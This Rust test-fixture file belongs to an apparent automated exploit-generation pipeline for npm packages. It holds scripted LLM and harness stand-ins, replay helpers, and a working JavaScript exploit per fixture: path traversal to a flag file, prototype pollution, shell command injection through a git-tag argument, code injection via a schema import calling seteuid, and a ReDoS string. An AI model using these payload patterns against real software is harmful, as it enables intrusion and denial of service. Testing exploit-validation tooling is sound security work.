//! Shared fixtures for the pipeline tests: scripted model and harness
//! stand-ins, per-fixture exploits and the recorded replay files.
#![allow(dead_code)]

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use pocgen_core::explorer::{ExportedApi, PackageSource};
use pocgen_core::llm::{ChatProvider, ChatRequest, ChatResponse, Gateway, ToolCall};
use pocgen_core::pipeline::{run_pipeline, FixedClock, PipelineConfig, PipelineOutcome};
use pocgen_core::prompt::{load_exploit_corpus, ExploitCorpus};
use pocgen_core::report_store::{parse_advisory, AdvisorySource, VulnReport};
use pocgen_core::sandbox::{exploit_digest, HarnessError, HarnessRunner, RecordedExecution, ReplayRunner, RunContext};
use pocgen_core::validator::{
    ErrorRecord, ExecutionReport, ExitStatus, FsAccess, RegexEvent, RegexSource, SentinelHit, SeteuidCall, SETEUID_MARKER,
};

pub const FIXTURES: [&str; 5] = ["asset-reader", "date-formatter-lite", "git-tag-lister", "djv", "name-check"];

pub fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

pub fn load_report(name: &str) -> VulnReport {
    let path = fixtures_dir().join("reports").join(format!("{name}.json"));
    parse_advisory(&std::fs::read_to_string(&path).unwrap(), AdvisorySource::Other).unwrap()
}

pub fn corpus() -> Arc<ExploitCorpus> {
    Arc::new(ExploitCorpus::new(load_exploit_corpus(&fixtures_dir().join("exploits.jsonl")).unwrap()))
}

pub fn config(name: &str, workdir: &Path) -> PipelineConfig {
    let mut c = PipelineConfig::new(workdir);
    c.package_source = PackageSource::LocalDir(fixtures_dir().join("packages").join(name));
    c.corpus = corpus();
    c
}

/// Access path the ranking answer names first.
pub fn target(name: &str) -> &'static str {
    match name {
        "asset-reader" => "root.readAsset",
        "date-formatter-lite" => "root",
        "git-tag-lister" => "root.listTags",
        "djv" => "root.Environment.prototype.import",
        "name-check" => "root.isValidName",
        other => panic!("unknown fixture {other}"),
    }
}

/// A working exploit for each fixture.
pub fn exploit(name: &str) -> &'static str {
    match name {
        "asset-reader" => "async function exploit() {\n  const assetReader = require(\"asset-reader\");\n  const content = assetReader.readAsset(process.cwd(), \"../flag.txt\");\n  console.log(content);\n}\nawait exploit();",
        "date-formatter-lite" => "async function exploit() {\n  const DateFormatter = require(\"date-formatter-lite\");\n  const maliciousJson = '{\"__proto__\": {\"exploited\": true}}';\n  const maliciousOptions = JSON.parse(maliciousJson);\n  const formatter = new DateFormatter(maliciousOptions);\n}\nawait exploit();",
        "git-tag-lister" => "async function exploit() {\n  const gitTagLister = require(\"git-tag-lister\");\n  await new Promise((resolve) => gitTagLister.listTags(\". ; /usr/bin/genpoc ;\", \"\", resolve));\n}\nawait exploit();",
        "djv" => "async function exploit() {\n  const djv = require(\"djv\");\n  const env = djv();\n  const doc = {name: \"x\", schema: {}, fn: \"process.seteuid(42); return function () { return true }\"};\n  env.import(JSON.stringify(doc));\n}\nawait exploit();",
        "name-check" => "async function exploit() {\n  const nameCheck = require(\"name-check\");\n  nameCheck.isValidName(\"a-\".repeat(30) + \"!\");\n}\nawait exploit();",
        other => panic!("unknown fixture {other}"),
    }
}

fn coverage(file: &str, lines: &[u32]) -> BTreeMap<String, BTreeSet<u32>> {
    BTreeMap::from([(file.to_string(), lines.iter().copied().collect())])
}

/// What the harness observes when [`exploit`] runs.
pub fn success_report(name: &str) -> ExecutionReport {
    let mut r = ExecutionReport::default();
    match name {
        "asset-reader" => {
            r.fs_accesses.push(FsAccess {
                raw_path: "../flag.txt".into(),
                normalized_path: String::new(),
                operation: "readFileSync".into(),
                vuln_fn_on_stack: true,
            });
            r.coverage = coverage("lib/index.js", &[4, 5, 6, 9, 10, 11]);
        }
        "date-formatter-lite" => {
            r.proto_exploited_present = true;
            r.coverage = coverage("src/formatter.js", &[10, 11, 12, 13, 14, 16, 18, 21, 24, 25, 26]);
        }
        "git-tag-lister" => {
            r.sentinel_hits.push(SentinelHit {
                marker_path: "genpoc.sentinel".into(),
                vuln_fn_on_stack: true,
            });
            r.coverage = coverage("index.js", &[3, 4, 5, 8, 9, 10]);
        }
        "djv" => {
            r.seteuid_calls.push(SeteuidCall {
                argument: SETEUID_MARKER,
                vuln_fn_on_stack: true,
            });
            r.coverage = coverage("lib/djv.js", &[2, 3, 4, 5, 6, 10, 11, 12, 52, 53]);
        }
        "name-check" => {
            r.regex_events.push(RegexEvent {
                duration_ms: 4200,
                source: RegexSource::Regex,
            });
            r.coverage = coverage("lib/check.js", &[3, 4, 5, 8]);
        }
        other => panic!("unknown fixture {other}"),
    }
    r
}

/// Answers requests by purpose, the way a cooperative model would.
pub struct ScriptedProvider {
    pub target: String,
    /// Exploit source for the n-th generation request (0-based).
    pub generate: Box<dyn FnMut(usize) -> String + Send>,
    pub generations: usize,
}

impl ScriptedProvider {
    pub fn new(target: &str, generate: impl FnMut(usize) -> String + Send + 'static) -> Self {
        Self {
            target: target.to_string(),
            generate: Box::new(generate),
            generations: 0,
        }
    }
}

impl ChatProvider for ScriptedProvider {
    fn complete(&mut self, request: &ChatRequest) -> Result<ChatResponse, String> {
        let prompt = request.messages.last().map(|m| m.content.as_str()).unwrap_or("");
        let mut response = match request.purpose.as_str() {
            "rank" => ChatResponse::text(format!("1. `{}`", self.target)),
            "usage" => {
                let short = self.target.rsplit('.').next().unwrap_or("");
                if prompt.contains(&format!("{short}(")) {
                    ChatResponse::text(format!("yes\nCalls `{short}` directly with caller supplied arguments."))
                } else {
                    ChatResponse::text("no")
                }
            }
            "generate" | "probe" => {
                let code = (self.generate)(self.generations);
                self.generations += 1;
                ChatResponse::text(format!("Here is the exploit.\n```js\n{code}\n```"))
            }
            "confirm" => ChatResponse::text("yes, the payload reaches the vulnerable sink"),
            "classify" => ChatResponse::text("path_traversal"),
            "missing_decl" => ChatResponse {
                tool_calls: vec![ToolCall {
                    name: "get_definitions".into(),
                    arguments: serde_json::json!({"identifiers": ["buildCommand"]}),
                }],
                ..ChatResponse::default()
            },
            "debugger" => ChatResponse {
                tool_calls: vec![ToolCall {
                    name: "evaluate_expressions".into(),
                    arguments: serde_json::json!({"expressions": [{"file": "index.js", "line": 10, "expression": "cmd"}]}),
                }],
                ..ChatResponse::default()
            },
            other => return Err(format!("unexpected purpose {other}")),
        };
        response.tokens_in = (request.canonical_json().len() as u64).div_ceil(4);
        response.tokens_out = (response.text.len() as u64).div_ceil(4) + 8;
        Ok(response)
    }
}

type Respond = Box<dyn FnMut(&RunContext, &str) -> ExecutionReport + Send>;

/// Executes nothing; answers with a scripted report and records it.
pub struct ScriptedRunner {
    respond: Mutex<Respond>,
    pub log: Mutex<Vec<RecordedExecution>>,
}

impl ScriptedRunner {
    pub fn new(respond: impl FnMut(&RunContext, &str) -> ExecutionReport + Send + 'static) -> Self {
        Self {
            respond: Mutex::new(Box::new(respond)),
            log: Mutex::new(Vec::new()),
        }
    }

    pub fn recorded(&self) -> Vec<RecordedExecution> {
        self.log.lock().unwrap().clone()
    }
}

impl HarnessRunner for ScriptedRunner {
    fn enumerate(&self, _: &Path, _: &str) -> Result<Vec<ExportedApi>, HarnessError> {
        Err(HarnessError::Unavailable)
    }

    fn run(&self, ctx: &RunContext, exploit: &str) -> Result<ExecutionReport, HarnessError> {
        let report = (self.respond.lock().unwrap())(ctx, exploit);
        self.log.lock().unwrap().push(RecordedExecution {
            exploit_sha256: Some(exploit_digest(exploit)),
            report: report.clone(),
        });
        Ok(report)
    }
}

/// An exploit that calls the target but never reaches the sink.
pub fn failing_exploit(n: usize) -> String {
    format!("async function exploit() {{\n  const gitTagLister = require(\"git-tag-lister\");\n  gitTagLister.listTags(\"repo{n}\", null, () => {{}});\n}}\nawait exploit();")
}

pub fn crash(message: &str) -> ExecutionReport {
    ExecutionReport {
        errors: vec![ErrorRecord {
            message: message.into(),
            stack: String::new(),
        }],
        exit: ExitStatus::Crashed,
        ..ExecutionReport::default()
    }
}

pub const BUDGET_FIXTURE: &str = "budget";

pub fn replay_dir() -> PathBuf {
    fixtures_dir().join("replay")
}

pub fn transcript_path(name: &str) -> PathBuf {
    replay_dir().join(format!("{name}.transcript.jsonl"))
}

pub fn executions_path(name: &str) -> PathBuf {
    replay_dir().join(format!("{name}.executions.jsonl"))
}

/// Runs `name` against the scripted model and harness, writing the
/// transcript and the executions to `transcript` and `executions`.
pub fn record(name: &str, workdir: &Path, transcript: &Path, executions: &Path) -> PipelineOutcome {
    let code = exploit(name).to_string();
    let fixture = name.to_string();
    record_with(
        name,
        workdir,
        transcript,
        executions,
        ScriptedProvider::new(target(name), move |_| code.clone()),
        ScriptedRunner::new(move |_, _| success_report(&fixture)),
    )
}

pub fn record_with(
    name: &str,
    workdir: &Path,
    transcript: &Path,
    executions: &Path,
    provider: ScriptedProvider,
    runner: ScriptedRunner,
) -> PipelineOutcome {
    let _ = std::fs::remove_file(transcript);
    let mut gateway = Gateway::live(Box::new(provider), Some(transcript.to_path_buf()));
    let outcome = run_pipeline(&load_report(name), &config(name, workdir), &mut gateway, &runner, &FixedClock(0.0));
    let lines: Vec<String> = runner.recorded().iter().map(|r| serde_json::to_string(r).unwrap()).collect();
    std::fs::write(executions, lines.join("\n") + "\n").unwrap();
    outcome
}

/// Runs `name` from its checked-in replay files.
pub fn replay(name: &str, workdir: &Path) -> PipelineOutcome {
    let mut gateway = Gateway::replay_file(&transcript_path(name)).unwrap();
    let runner = ReplayRunner::from_file(&executions_path(name)).unwrap();
    run_pipeline(&load_report(name), &config(name, workdir), &mut gateway, &runner, &FixedClock(0.0))
}
